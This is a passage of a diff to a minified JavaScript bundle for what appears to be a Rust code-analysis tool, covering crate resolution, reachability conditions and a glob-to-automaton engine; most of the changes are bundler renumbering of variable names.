-identity,path}of contents)this.#contents.add(identity),restOn(this.#project,path)}#name(step,at2,name){const{tokens}=step.file.source,[before2,next2]=[tokens[at2-
-1],tokens[at2+1]];if(isCondition(step.file,at2)){this.#condition(step,at2,name);return}if(!isMark(before2,".")&&!isMark(before2,"::")&&this.#crates(step,name),isMark(
+tokens[at2-2]?.text??"")&&this.#add(step,setsVariable(this.#mentionsOf,text3));const called4=functionInAttribute(file2.source.tokens,at2);called4!==void 0&&this.#add(
+step,this.#declared(called4,isFunction),!0);for(const[,name=""]of text3.matchAll(/\{([A-Za-z_]\w*)(?=[:}])/g))this.#plain(step,at2,name,!0)}#named(contents){for(const{
+identity,path}of contents)this.#contents.add(identity),restOn(this.#project,path)}#name(step,at2,name){const{tokens}=step.file.source,[before3,next2]=[tokens[at2-
+1],tokens[at2+1]];if(isCondition(step.file,at2)){this.#condition(step,at2,name);return}if(!isMark(before3,".")&&!isMark(before3,"::")&&this.#crates(step,name),isMark(
 next2,"!")&&tokens[at2+2]?.kind==="open"){this.#macro(step,at2,name);return}const isCalled2=isOpen(next2,"(")||isMark(next2,"::")&&isMark(tokens[at2+2],"<");isMark(
-before2,".")&&!isMark(tokens[at2-2],".")?this.#member(step,at2,name,isCalled2):isMark(before2,"::")?this.#path(step,at2,name):name!=="_"&&!["::",":","="].some(mark=>isMark(
+before3,".")&&!isMark(tokens[at2-2],".")?this.#member(step,at2,name,isCalled2):isMark(before3,"::")?this.#path(step,at2,name):name!=="_"&&!["::",":","="].some(mark=>isMark(
 next2,mark))&&this.#plain(step,at2,name)}#crates({file:file2,depth},name){if(!(depth>2))for(const folder of foldersBeside(this.#project,file2,name))restOn(this.#project,
 folder),this.#contents.add((0,import_shared_acegos.wordsOf)("crate",this.#project.contents.at(folder)))}#member(step,at2,name,isCalled2){if(step.depth>NEAR2)return;
 if(isCalled2){/^(?:try_)?state$/.test(name)&&this.#add(step,managedFor(this.#mentionsOf,{file:step.file,index:at2}));const own=this.#declared(name,({owner})=>owner!==
@@ -7440,7 +7501,7 @@ source,first))?.value;return name!=="set_current_dir"&&variable6!==void 0&&!/^CA
 {tokens}=source,[program2]=argumentsAt(source,open).map(part=>textOf6(expressionIn(source,part))?.value);if(program2===void 0||!TELLING3.has(program2))return!1;
 const words4=TELLING3.get(program2)??null,[dot,method,next2]=[1,2,3].map(step=>(tokens[open]?.partner??open)+step),isGiven=isMark(tokens[dot??-1],".")&&/^args?$/.
 test(tokens[method??-1]?.text??""),[first]=isGiven?argumentsAt(source,next2??-1):[],expression=first&&expressionIn(source,first),word2=textOf6(expression)?.value??
-textsOf2(expression)?.[0]?.value??"";return words4===null||words4.has(word2)}#foreign([first="",...rest2]){return rest2.length===0||/^[A-Z]/.test(first)||this.#own.
+textsOf3(expression)?.[0]?.value??"";return words4===null||words4.has(word2)}#foreign([first="",...rest2]){return rest2.length===0||/^[A-Z]/.test(first)||this.#own.
 has(first)||this.#crates.has(first)?[]:[{what:`uses the crate ${(0,import_shared_acegpst.code)(first)}`,crate:first}]}#wholePaths([first="",...rest2]){const{imports:imports2}=this.#file.
 items,named12=this.#aliases.get(first);if(named12===void 0&&this.#own.has(first))return[[first,...rest2]];const path=[...named12??[first],...rest2],imported2=imports2.
 find(({as})=>as===path[0]);if(imported2!==void 0)return[[...imported2.path,...path.slice(1)]];if(named12!==void 0)return[path];const globs2=imports2.filter(({as})=>as===
@@ -7514,20 +7575,20 @@ function isSame4(a3,b5){if(a3.length!==b5.length)return!1;for(let i2=0;i2<a3.len
 function determinised(nfa,work){return new Determiniser(nfa,work).run()}var EDGE=-1,NOT_ASKED2=-2,Determiniser=class{#nfa;#work;#alphabet;#classes;#kinds;#sets=new ListsOfNumbers;#reached=new ListsOfNumbers;#found=new Map;#seen;#round=0;constructor(nfa,work){
 this.#nfa=nfa,this.#work=work,this.#alphabet=alphabetOf([...nfa.sets,...nfa.looks.map(({at:at2})=>at2)],work),this.#classes=nfa.sets.map(set=>classesIn(set,this.#alphabet)),
 this.#kinds=this.#kindsOfClasses(),this.#seen=new Int32Array(nfa.states.length)}run(){const most=Math.max(MOST_STATES,this.#nfa.states.length*STATES_FOR_EACH),rows=[],
-accepting=[];this.#numberOf([0],EDGE);for(let at2=0;at2<this.#sets.size;at2+=1){if(at2>=most)throw new TooComplex(`more than ${most} states`);const[before2=NOT_ASKED2,
-...states]=this.#sets.get(at2);accepting.push(this.#allowed(states,before2,EDGE).includes(this.#nfa.end)?1:0),this.#addRow(rows,states,before2)}return{alphabet:this.#alphabet,
-next:Int32Array.from(rows),accepting:Uint8Array.from(accepting)}}#addRow(rows,states,before2){const targets3=this.#kinds.map(()=>[]);if(before2===NOT_ASKED2)this.#addTargets(
-targets3,states);else for(const kind of new Set(this.#kinds))this.#addTargets(targets3,this.#allowed(states,before2,kind),kind);for(let its=0;its<targets3.length;its+=
+accepting=[];this.#numberOf([0],EDGE);for(let at2=0;at2<this.#sets.size;at2+=1){if(at2>=most)throw new TooComplex(`more than ${most} states`);const[before3=NOT_ASKED2,
+...states]=this.#sets.get(at2);accepting.push(this.#allowed(states,before3,EDGE).includes(this.#nfa.end)?1:0),this.#addRow(rows,states,before3)}return{alphabet:this.#alphabet,
+next:Int32Array.from(rows),accepting:Uint8Array.from(accepting)}}#addRow(rows,states,before3){const targets3=this.#kinds.map(()=>[]);if(before3===NOT_ASKED2)this.#addTargets(
+targets3,states);else for(const kind of new Set(this.#kinds))this.#addTargets(targets3,this.#allowed(states,before3,kind),kind);for(let its=0;its<targets3.length;its+=
 1){const reached5=targets3[its]??[];rows.push(reached5.length===0?NOWHERE:this.#numberOf(reached5,this.#kinds[its]??EDGE))}this.#work.spend(targets3.length)}#addTargets(targets3,states,kind){
 let count=0;for(const state of states)for(const[set,to]of this.#nfa.states[state]?.moves??[]){const classes=this.#classes[set]??[];count+=classes.length+1;for(let i2=0;i2<
-classes.length;i2+=1){const its=classes[i2]??0;(kind===void 0||this.#kinds[its]===kind)&&targets3[its]?.push(to)}}this.#work.spend(count)}#numberOf(reached5,before2){
-this.#work.spend(reached5.length);const name=this.#reached.numberOf(reached5),byName3=this.#found.get(before2)??new Map,known13=byName3.get(name);if(known13!==void 0)
-return known13;const states=this.#closed(reached5),isAsked3=states.some(state=>this.#nfa.states[state]?.looks.length!==0),number=this.#sets.numberOf([isAsked3?before2:
-NOT_ASKED2,...states]);return this.#work.spend(states.length*STEPS_TO_SORT),this.#found.set(before2,byName3.set(name,number)),number}#closed(reached5){const{states,
+classes.length;i2+=1){const its=classes[i2]??0;(kind===void 0||this.#kinds[its]===kind)&&targets3[its]?.push(to)}}this.#work.spend(count)}#numberOf(reached5,before3){
+this.#work.spend(reached5.length);const name=this.#reached.numberOf(reached5),byName4=this.#found.get(before3)??new Map,known13=byName4.get(name);if(known13!==void 0)
+return known13;const states=this.#closed(reached5),isAsked3=states.some(state=>this.#nfa.states[state]?.looks.length!==0),number=this.#sets.numberOf([isAsked3?before3:
+NOT_ASKED2,...states]);return this.#work.spend(states.length*STEPS_TO_SORT),this.#found.set(before3,byName4.set(name,number)),number}#closed(reached5){const{states,
 end}=this.#nfa;return this.#walked(reached5,state=>states[state]?.free??NONE3).filter(state=>{const{moves=NONE3,looks=NONE3}=states[state]??{};return state===end||
-moves.length>0||looks.length>0}).sort((a3,b5)=>a3-b5)}#allowed(states,before2,after2){if(before2===NOT_ASKED2)return states;const{states:all,looks}=this.#nfa;return this.#walked(
+moves.length>0||looks.length>0}).sort((a3,b5)=>a3-b5)}#allowed(states,before3,after2){if(before3===NOT_ASKED2)return states;const{states:all,looks}=this.#nfa;return this.#walked(
 states,state=>{const{free=NONE3,looks:asked4=[]}=all[state]??{};if(asked4.length===0)return free;const holding=asked4.filter(([look2])=>looks[look2]?.holds(sideOf(
-before2,look2),sideOf(after2,look2)));return[...free,...holding.map(([,to])=>to)]})}#walked(from,onwards){this.#round+=1;const found12=[],note4=state=>{this.#seen[state]!==
+before3,look2),sideOf(after2,look2)));return[...free,...holding.map(([,to])=>to)]})}#walked(from,onwards){this.#round+=1;const found12=[],note4=state=>{this.#seen[state]!==
 this.#round&&(this.#seen[state]=this.#round,found12.push(state))};for(const state of from)note4(state);for(const state of found12)for(const to of onwards(state))
 note4(to);return this.#work.spend(from.length+found12.length),found12}#kindsOfClasses(){const kinds2=Array.from({length:this.#alphabet.size},()=>0);for(const[look2,
 {at:at2}]of this.#nfa.looks.entries())for(const its of classesIn(at2,this.#alphabet))kinds2[its]=(kinds2[its]??0)|1<<look2;return kinds2}},NONE3=[],STEPS_TO_SORT=4;
@@ -7535,10 +7596,10 @@ function sideOf(kind,look2){return kind===EDGE?"edge":kind>>look2&1?"in":"out"}f
 language,work),work),work)}function withoutDeadEnds(language,work){const distances=distancesToEnd(language,work),{alphabet,next:next2,accepting}=language;if(distances[0]===
 NOWHERE)return{alphabet,next:new Int32Array(alphabet.size).fill(NOWHERE),accepting:new Uint8Array(1)};work.spend(next2.length);const living=next2.map(to=>to===NOWHERE||
 distances[to]===NOWHERE?NOWHERE:to);return{alphabet,next:living,accepting}}function distancesToEnd({alphabet,next:next2,accepting},work){work.spend(next2.length);
-const last=new Int32Array(accepting.length).fill(NOWHERE),before2=new Int32Array(next2.length);for(let move=0;move<next2.length;move+=1){const to=next2[move]??NOWHERE;
-to!==NOWHERE&&(before2[move]=last[to]??NOWHERE,last[to]=move)}const distances=new Int32Array(accepting.length).fill(NOWHERE),reached5=[],reach2=(state,distance)=>{
+const last=new Int32Array(accepting.length).fill(NOWHERE),before3=new Int32Array(next2.length);for(let move=0;move<next2.length;move+=1){const to=next2[move]??NOWHERE;
+to!==NOWHERE&&(before3[move]=last[to]??NOWHERE,last[to]=move)}const distances=new Int32Array(accepting.length).fill(NOWHERE),reached5=[],reach2=(state,distance)=>{
 distances[state]===NOWHERE&&(distances[state]=distance,reached5.push(state))};for(let state=0;state<accepting.length;state+=1)accepting[state]===1&&reach2(state,
-0);for(const state of reached5)for(let move=last[state]??NOWHERE;move!==NOWHERE;move=before2[move]??NOWHERE)reach2(Math.floor(move/alphabet.size),(distances[state]??
+0);for(const state of reached5)for(let move=last[state]??NOWHERE;move!==NOWHERE;move=before3[move]??NOWHERE)reach2(Math.floor(move/alphabet.size),(distances[state]??
 0)+1);return distances}function groupsOfStates(language,work){const{next:next2,accepting}=language;let groups3=distancesToEnd(language,work);for(let count=0;;){
 work.spend(next2.length);const grouping=new Grouping(language,groups3),finer=new Int32Array(accepting.length).fill(NOWHERE);for(let state=0;state<accepting.length;state+=
 1)groups3[state]!==NOWHERE&&(finer[state]=grouping.groupOf(state));if(grouping.count===count)return groups3;count=grouping.count,groups3=finer}}var Grouping=class{count=0;#size;#next;#groups;#firsts=new Map;constructor({
@@ -7571,7 +7632,7 @@ const to=places2[next2[state*alphabet.size+number]??NOWHERE];to!==void 0&&(this.
 [numbers[number],to]))}}return end}};function charactersOf({alphabet:{starts:starts3,classes,size},next:next2}){const leads=new Uint8Array(size);for(let move=0;move<
 next2.length;move+=1)next2[move]!==NOWHERE&&(leads[move%size]=1);const found12=Array.from({length:size},()=>[]);for(let i2=0;i2<starts3.length;i2+=1){const its=classes[i2]??
 0;leads[its]===1&&found12[its]?.push([starts3[i2]??0,(starts3[i2+1]??BEYOND2)-1])}return found12}var BEYOND2=1114112;function byRanges(){const distinct7=new ListsOfNumbers;
-return set=>distinct7.numberOf(set.flat())}var Numbers=class{all=[];#known=new Map;#keyOf;constructor(keyOf10){this.#keyOf=keyOf10}of(thing){const known13=this.#known.
+return set=>distinct7.numberOf(set.flat())}var Numbers=class{all=[];#known=new Map;#keyOf;constructor(keyOf11){this.#keyOf=keyOf11}of(thing){const known13=this.#known.
 get(thing);if(known13!==void 0)return known13;const key3=this.#keyOf(thing),number=this.#known.get(key3)??this.all.push(thing)-1;return this.#known.set(thing,number).
 set(key3,number),number}};function languageOf(expression,work){return minimised(automatonOf(expression,work),work)}function automatonOf(expression,work){return determinised(
 nfaOf(expression,work),work)}function ownLanguage(expression){let known13;const made2=()=>(known13??=languageOf(expression,new Work(MOST_FOR_OWN)),known13);return{
@@ -7590,7 +7651,7 @@ low":return options.literalDot?sequence(many(sequence(component(options),literal
 const known13=EITHER_CASE.get(text3);if(known13!==void 0)return known13;const made2=character(inBothCases(oneOf(text3)));return text3<="\x7F"&&EITHER_CASE.set(text3,
 made2),made2}var EITHER_CASE=new Map;function anyWild({literalSeparator,literalDot:literalDot2}){return WILD[literalSeparator?"separated":"free"][literalDot2?"v\
 isible":"any"]}function wild(of2,{literalSeparator,literalDot:literalDot2}){const kept=literalSeparator?except(of2,SLASH2):of2;return literalDot2?choice(character(
-except(kept,DOT)),sequence(INSIDE_COMPONENT,character(both(kept,DOT)))):character(kept)}var INSIDE_COMPONENT=look(SLASH2,before2=>before2==="out"),wildWith=literalSeparator=>({
+except(kept,DOT)),sequence(INSIDE_COMPONENT,character(both(kept,DOT)))):character(kept)}var INSIDE_COMPONENT=look(SLASH2,before3=>before3==="out"),wildWith=literalSeparator=>({
 any:wild(ANY,{literalSeparator,literalDot:!1,foldCase:!1}),visible:wild(ANY,{literalSeparator,literalDot:!0,foldCase:!1})}),WILD={separated:wildWith(!0),free:wildWith(
 !1)};function component(options){return many(anyWild({...options,literalSeparator:!0}))}function membersOf3({negated,ranges},{foldCase}){const members2=either(...ranges.
 map(range=>membersOfRange(range,foldCase)));return negated?not(members2):members2}function membersOfRange([from,to],foldCase){const written6=between(from,to);if(!foldCase)
@@ -7603,21 +7664,21 @@ null?void 0:languageOfPaths(whole2);return language&&(path=>accepts(language,pat
 literalDot:!1,foldCase:!1};try{const expression=globExpression(glob,options);return expression&&languageOf(expression,new Work(MOST_STEPS7))}catch(error){if(error instanceof
 TooComplex||error instanceof OutOfWork)return;throw error}}function pastedNames(project,words4){return rustOfApp(project).files.flatMap(({file:file2})=>{if(!/\[\s*<|concat_idents/.
 test(file2.text))return[];const{tokens}=rustSource(file2),place=placesIn(file2);return tokens.flatMap((token2,at2)=>{const pieces=isKeyword(tokens[at2-1],"fn")?
-void 0:piecesAt(tokens,at2),name=pieces===void 0?void 0:words4.find(word2=>mayBe(pieces,word2));return name===void 0?[]:[{name,at:place(token2.start,token2.end)}]})})}
+void 0:piecesAt(tokens,at2),name=pieces===void 0?void 0:words4.find(word2=>mayBe2(pieces,word2));return name===void 0?[]:[{name,at:place(token2.start,token2.end)}]})})}
 function piecesAt(tokens,at2){const token2=tokens[at2];if(isOpen(token2,"[")&&isMark(tokens[at2+1],"<")&&isMark(tokens[(token2?.partner??0)-1],">"))return piecesIn(
 tokens.slice(at2+2,(token2?.partner??0)-1));const open=tokens[at2+2];return token2?.text==="concat_idents"&&isMark(tokens[at2+1],"!")&&open?.kind==="open"?piecesIn(
 tokens.slice(at2+3,open.partner)):void 0}function piecesIn(tokens){return tokens.flatMap((token2,at2)=>{if(isMark(token2,"$"))return[null];const isModifier2=isMark(
-tokens[at2-1],":")||isMark(tokens[at2-1],"$");return token2.kind==="word"&&!isModifier2||token2.kind==="text"?[token2.text]:[]})}function mayBe(pieces,word2){let rest2=word2,
+tokens[at2-1],":")||isMark(tokens[at2-1],"$");return token2.kind==="word"&&!isModifier2||token2.kind==="text"?[token2.text]:[]})}function mayBe2(pieces,word2){let rest2=word2,
 isOpen4=!1;for(const piece of pieces)if(piece===null)isOpen4=!0;else{const found12=rest2.indexOf(piece);if(found12<0||found12>0&&!isOpen4)return!1;rest2=rest2.slice(
-found12+piece.length),isOpen4=!1}return rest2===""||isOpen4}var ENTRIES=new Set(["ctor","export_name","mobile_entry_point","no_mangle"]);function isEntry({source},called3,groups3){
-if(called3.kind==="macro")return!1;const{tokens}=source,words4=attributesBefore(source,called3.keyword).flatMap(({from,to})=>tokens.slice(from,to).map(({text:text3})=>text3)),
+found12+piece.length),isOpen4=!1}return rest2===""||isOpen4}var ENTRIES=new Set(["ctor","export_name","mobile_entry_point","no_mangle"]);function isEntry({source},called4,groups3){
+if(called4.kind==="macro")return!1;const{tokens}=source,words4=attributesBefore(source,called4.keyword).flatMap(({from,to})=>tokens.slice(from,to).map(({text:text3})=>text3)),
 owner=groups3.find(({item})=>item?.kind==="owner")?.item,isOfTrait=owner?.kind==="owner"&&tokens.slice(owner.keyword,owner.body.from).some(token2=>isKeyword(token2,
-"for"));return called3.name==="main"&&called3.owner===null||isOfTrait||words4.some(word2=>ENTRIES.has(word2))}function mayCall(called3,of2,{file:file2,index}){const{
-tokens}=file2.source,[before2,next2]=[tokens[index-1],tokens[index+1]];if(isKeyword(before2,"fn")||isImport(tokens,index))return!1;if(called3.kind==="macro")return isMark(
-next2,"!")&&!isMark(before2,"!");if(file2===of2&&index>called3.keyword&&index<called3.body.to||isMark(next2,"!"))return!1;const isCalled2=isOpen(next2,"(")||isMark(
-next2,"::");if(isMark(before2,"."))return called3.owner!==null&&isCalled2;const qualifier=isMark(before2,"::")?tokens[index-2]?.text??"":null;return called3.owner!==
-null?qualifier!==null&&(qualifier===called3.owner||qualifier==="Self"):qualifier!==null?isModule2(of2,qualifier):!(isMark(next2,":")||isMark(next2,"=")||isKeyword(
-before2,"let")||isKeyword(before2,"mut"))&&(file2===of2||isImported2(file2,called3.name))}function isImported2({items},name){return items.imports.some(({as,path})=>as===
+"for"));return called4.name==="main"&&called4.owner===null||isOfTrait||words4.some(word2=>ENTRIES.has(word2))}function mayCall(called4,of2,{file:file2,index}){const{
+tokens}=file2.source,[before3,next2]=[tokens[index-1],tokens[index+1]];if(isKeyword(before3,"fn")||isImport(tokens,index))return!1;if(called4.kind==="macro")return isMark(
+next2,"!")&&!isMark(before3,"!");if(file2===of2&&index>called4.keyword&&index<called4.body.to||isMark(next2,"!"))return!1;const isCalled2=isOpen(next2,"(")||isMark(
+next2,"::");if(isMark(before3,"."))return called4.owner!==null&&isCalled2;const qualifier=isMark(before3,"::")?tokens[index-2]?.text??"":null;return called4.owner!==
+null?qualifier!==null&&(qualifier===called4.owner||qualifier==="Self"):qualifier!==null?isModule2(of2,qualifier):!(isMark(next2,":")||isMark(next2,"=")||isKeyword(
+before3,"let")||isKeyword(before3,"mut"))&&(file2===of2||isImported2(file2,called4.name))}function isImported2({items},name){return items.imports.some(({as,path})=>as===
 "*"||as===name&&path.length>0)}function isModule2({rust,items},name){if(/^(?:crate|self|super)$/.test(name)||items.modules.some(module2=>module2.name===name))return!0;
 const{path}=rust.file,file2=baseName(path).replace(/\.rs$/,"");return file2==="lib"||file2==="main"?!0:file2===name||file2==="mod"&&baseName(folderOf(path))===name}
 var FIXED=new Set("Err None Ok Some as bool cfg concat const else env eq false feature if is_empty is_err is_none is_ok is_some let match matches option_env ret\
@@ -7628,17 +7689,17 @@ return!1}return!0}function isFixedFunction(index,name,depth){const declared3=ind
 const{tokens}=file2.source,body=file2.items.functions.find(({keyword})=>keyword===part.from)?.body??null;return isKeyword(tokens[part.from],"fn")&&body!==null&&
 isFixed(index,file2,body,depth+1)})}function isInCondition({source:{tokens},groupsAt},at2){return groupsAt(at2).some(({open})=>tokens[open-1]?.text==="cfg"||tokens[open-
 2]?.text==="cfg")}var NOTHING6={parts:[],names:[]},LONGEST_HEADER=400;function decidingIn(file2,open,child,isFixed2){const{tokens}=file2.source,all=[ofGroup(file2,
-open,child),chained(tokens,open,child)];return isOpen(tokens[open],"{")&&all.push(left(file2,open,child,isFixed2)),{parts:all.flatMap(({parts})=>parts),names:all.
-flatMap(({names:names4})=>names4)}}function ofGroup(file2,open,child){const{tokens}=file2.source,bang=isMark(tokens[open-1],"!")?open-1:-1;return bang>=0?{parts:[],
-names:[tokens[bang-1]?.text??""]}:isOpen(tokens[open],"(")?ofCall(file2,open,child):isOpen(tokens[open],"{")?ofBlock2(tokens,open,child):NOTHING6}var MAYBE=new Set(
+open,child),chained(tokens,open,child)];return isOpen(tokens[open],"{")&&all.push(left(file2,open,child,isFixed2)),{parts:all.flatMap(({parts:parts2})=>parts2),
+names:all.flatMap(({names:names4})=>names4)}}function ofGroup(file2,open,child){const{tokens}=file2.source,bang=isMark(tokens[open-1],"!")?open-1:-1;return bang>=
+0?{parts:[],names:[tokens[bang-1]?.text??""]}:isOpen(tokens[open],"(")?ofCall(file2,open,child):isOpen(tokens[open],"{")?ofBlock2(tokens,open,child):NOTHING6}var MAYBE=new Set(
 "and_then filter filter_map find_map flat_map fold for_each inspect map map_or map_or_else or_else retain then try_fold try_for_each unwrap_or_else".split(" "));
 function ofCall({source},open,child){const{tokens}=source,given2=argumentsAt(source,open).find(({from,to})=>from<=child&&child<to),name=tokens[open-1];if(given2===
 void 0||name?.kind!=="word")return NOTHING6;const first=isKeyword(tokens[given2.from],"move")?given2.from+1:given2.from;return isMark(tokens[first],"|")?isMark(
 tokens[open-2],".")?MAYBE.has(name.text)?{parts:[receiverOf(source,open-1)],names:[]}:NOTHING6:{parts:[],names:[name.text]}:NOTHING6}var CONTROL2=new Set(["else",
 "for","if","match","while"]);function ofBlock2(tokens,open,child){const header=headerOf(tokens,open),word2=tokens[header.from]?.text;if(header.from===open)return NOTHING6;
 if(word2==="else")return{parts:chainOf3(tokens,header.from),names:[]};if(word2==="match")return{parts:[header,armAt(tokens,open,child)],names:[]};if(word2==="fo\
-r")return overList(tokens,header)?NOTHING6:{parts:[header],names:[]};const before2=isKeyword(tokens[header.from-1],"else")?chainOf3(tokens,header.from-1):[];return isCertain(
-tokens,header)?{parts:before2,names:[]}:{parts:[...before2,header],names:[]}}function headerOf(tokens,open){const parent=tokens[open]?.parent??-1;for(let at2=open-
+r")return overList(tokens,header)?NOTHING6:{parts:[header],names:[]};const before3=isKeyword(tokens[header.from-1],"else")?chainOf3(tokens,header.from-1):[];return isCertain(
+tokens,header)?{parts:before3,names:[]}:{parts:[...before3,header],names:[]}}function headerOf(tokens,open){const parent=tokens[open]?.parent??-1;for(let at2=open-
 1,steps=0;at2>parent;steps+=1){if(steps>=LONGEST_HEADER)return{from:at2,to:open};const token2=tokens[at2];if(token2?.kind==="word"&&CONTROL2.has(token2.text)&&isKeyword(
 token2,token2.text))return{from:at2,to:open};const isBlock2=token2?.kind==="close"&&token2.text==="}"&&!isMark(tokens[at2+1],"=");if(isMark(token2,";")||isMark(
 token2,"=>")||isBlock2)break;at2=token2?.kind==="close"?token2.partner-1:at2-1}return{from:open,to:open}}function chainOf3(tokens,otherwise){const found12=[];for(let at2=otherwise;isKeyword(
@@ -7647,73 +7708,74 @@ const header=headerOf(tokens,close.partner);found12.push(header),at2=header.from
 let at2=end;for(let steps=0;at2>0&&!isKeyword(tokens[at2],"let")&&steps<LONGEST_HEADER;steps+=1)at2-=1;return at2}function armAt(tokens,open,child){let arm={from:open,
 to:open},from=open+1;for(let at2=open+1;at2<child;at2=after(tokens,at2)){isMark(tokens[at2],"=>")&&(arm={from,to:at2});const isBody=isOpen(tokens[at2],"{")&&isMark(
 tokens[at2-1],"=>");(isMark(tokens[at2],",")||isBody)&&(from=after(tokens,at2))}return arm}function overList(tokens,{from,to}){const last=tokens[to-1],start=last?.
-kind==="close"?last.partner:-1;return isOpen(tokens[start],"[")&&start>from&&start+1<to-1&&!isIndexed(tokens[start-1])}function isIndexed(before2){return before2?.
-kind==="word"&&before2.text!=="in"}function isCertain(tokens,{from,to}){return to===from+2&&isKeyword(tokens[from+1],"true")}function chained(tokens,open,child){
+kind==="close"?last.partner:-1;return isOpen(tokens[start],"[")&&start>from&&start+1<to-1&&!isIndexed(tokens[start-1])}function isIndexed(before3){return before3?.
+kind==="word"&&before3.text!=="in"}function isCertain(tokens,{from,to}){return to===from+2&&isKeyword(tokens[from+1],"true")}function chained(tokens,open,child){
 let[from,isChained]=[open+1,!1];for(let at2=open+1;at2<child;at2=after(tokens,at2)){const token2=tokens[at2];["&","|"].some(mark=>isMark(token2,mark)&&isMark(tokens[at2+
 1],mark))&&isValue(tokens[at2-1])&&(isChained=!0),([";",",","=>"].some(mark=>isMark(token2,mark))||isOpen(token2,"{"))&&([from,isChained]=[after(tokens,at2),!1])}
 return isChained&&from<child?{parts:[{from,to:child}],names:[]}:NOTHING6}function isValue(token2){return(token2?.kind==="word"||token2?.kind==="close"||token2?.
 kind==="text")&&!isKeyword(token2,"move")}var LEAVES3=new Set(["abort","break","continue","exit","return"]),MOST_LEAVING=60,PANICS=new Set(["panic","todo","unim\
-plemented","unreachable"]);function left(file2,open,child,isFixed2){const{source}=file2,parts=statementsOf(source,insideOf(source.tokens,open)).flatMap(part=>part.
-to>child?[]:leavingIn(file2,open,part).flatMap(at2=>headersOf(file2,open,at2,part,isFixed2)??[]));return{parts:parts.length>MOST_LEAVING?[{from:open+1,to:child}]:
-parts,names:[]}}function headersOf({source:{tokens},groupsAt},block,at2,part,isFixed2){const groups3=groupsAt(at2).map(({open})=>open),headers=groups3.slice(0,groups3.
-indexOf(block)).map(open=>headerOf(tokens,open)).filter(({from,to})=>from<to);return headers.some(header=>!isFixed2(header))||isKeyword(tokens[part.from],"let")&&
-!isFixed2(part)?void 0:[{from:at2,to:at2+1},...headers]}function leavingIn({source:{tokens},groupsAt},block,part){const found12=[];for(let at2=part.from;at2<part.
-to;at2+=1){const word2=tokens[at2]?.kind==="word"?tokens[at2]?.text??"":"";if(!(PANICS.has(word2)&&isMark(tokens[at2+1],"!"))&&!LEAVES3.has(word2))continue;const isOfLoop=word2===
-"break"||word2==="continue",inside=groupsAt(at2).map(({open,item})=>({open,item}));inside.slice(0,inside.findIndex(({open})=>open===block)).some(({open,item})=>item!==
-null||isClosure(tokens,open)||isOfLoop&&isLoop(tokens,open))||found12.push(at2)}return found12}function isClosure(tokens,open){const before2=tokens[open-1];return isMark(
-before2,"|")||isKeyword(before2,"move")||isKeyword(before2,"async")}function isLoop(tokens,open){const{from}=headerOf(tokens,open);return isKeyword(tokens[open-
-1],"loop")||["for","while"].includes(tokens[from]?.text??"")}function reachOf(project,{file:file2,index}){const code2=codeIndexOf(project),indexed2=code2.index.
-file(file2.rust.file.path);if(indexed2===void 0)return(0,import_shared_acegos.wordsOf)("unread");const reach2=reaches.get(project)??new Reach(project,code2);reaches.
-set(project,reach2);try{const conditions=reach2.at(indexed2,index);return conditions.length===0?null:(0,import_shared_acegos.wordsOf)("reach",[...new Set(conditions)].
-sort())}catch(error){if(!(error instanceof OutOfWork))throw error;return(0,import_shared_acegos.wordsOf)("reach",allCodeOf(project))}}var reaches=new WeakMap;function runsWhere(project,mention){
-const only2=conditionOf2(project,mention.file.rust.crate,mention.requires);if(only2!==null)return only2;const name=reachOf(project,mention);return name===null?null:
-{kind:"reach",name}}var Reach=class{#project;#code;#steps=new Map;#straight=new Map;#known=new Map;constructor(project,code2){this.#project=project,this.#code=code2}at(file2,index){
-const{own,holder}=this.#step(file2,index);if(holder===null||this.#isStraight(holder))return own;const known13=this.#known.get(holder.name)??this.#conditionsOf(holder);
-return this.#known.set(holder.name,known13),[...own,...known13]}#step(file2,index){const groups3=file2.groupsAt(index),at2=groups3.findIndex(({item})=>item?.kind===
-"function"||item?.kind==="macro"),called3=groups3[at2]?.item,own=this.#within(file2,index,at2<0?groups3:groups3.slice(0,at2+1));if(called3?.kind!=="function"&&called3?.
-kind!=="macro")return{own,holder:null};const name=`${file2.rust.file.path}\0${called3.keyword}`;return{own,holder:{name,file:file2,called:called3,outer:groups3.
-slice(at2+1)}}}#calls({name,file:file2,called:called3}){const known13=this.#steps.get(name);if(known13!==void 0)return known13;const steps=mentionsIn2(this.#code,
-called3.name).filter(each=>mayCall(called3,file2,each)).map(each=>this.#step(each.file,each.index));return this.#steps.set(name,steps),steps}#isStraight(start){
-const seen=new Map([[start.name,start]]);for(const holder of seen.values()){const isStraight=this.#straight.get(holder.name)??(isEntry(holder.file,holder.called,
-holder.outer)||null);if(isStraight===!1)continue;const plain8=isStraight?[]:this.#calls(holder).filter(({own})=>own.length===0);if(isStraight||plain8.some(step=>step.
-holder===null))return this.#straight.set(start.name,!0),!0;for(const{holder:caller}of plain8)caller!==null&&seen.set(caller.name,caller)}for(const name of seen.
-keys())this.#straight.set(name,!1);return!1}#conditionsOf(start){const seen=new Map([[start.name,start]]),found12=new Set(["called under conditions"]);for(const holder of seen.
-values())for(const{own,holder:caller}of this.#calls(holder)){for(const condition of own)found12.add(condition);caller!==null&&!this.#isStraight(caller)&&seen.set(
-caller.name,caller)}return[...found12]}#within(file2,at2,groups3){const{source}=file2;let child=at2;const{index,work}=this.#code,attributes2=[...attributesOfStatement(
-source,at2)],found12=groups3.flatMap(({open,item})=>{work.spend((source.tokens[open]?.partner??open)-open);const{parts,names:names4}=decidingIn(file2,open,child,
-part=>isFixed(index,file2,part));return attributes2.push(...item===null?attributesOfStatement(source,open):attributesBefore(source,item.keyword)),child=open,[...parts.
-map(part=>this.#named(file2,part)),...this.#given(names4)]}),conditions=attributes2.filter(({from})=>isKeyword(source.tokens[from],"cfg"));return[...found12,...this.#builds(
-file2,conditions)]}#builds(file2,attributes2){const{source}=file2;return attributes2.flatMap(({from})=>{const[predicate]=isOpen(source.tokens[from+1],"(")?argumentsAt(
-source,from+1):[];return predicate!==void 0&&isDecidedElsewhere(source,predicate)?[this.#named(file2,predicate)]:[]})}#named(file2,part){return conditionSliceOf(
-this.#project,file2,part,isFixed(this.#code.index,file2,part))}#given(names4){const{index}=this.#code;return names4.flatMap(name=>{const own=index.declared(name).
-map(({file:file2,part})=>writtenOf(file2.source,part));return own.length===0?[]:[(0,import_shared_acegos.wordsOf)(name,own)]})}},STANDARD2=new Set(["alloc","cor\
-e","std"]);function isOfStandardMacros(project,expression){const paths3=macrosIn(expression),names4=[...new Set(paths3.map(path=>path.at(-1)??""))];return paths3.
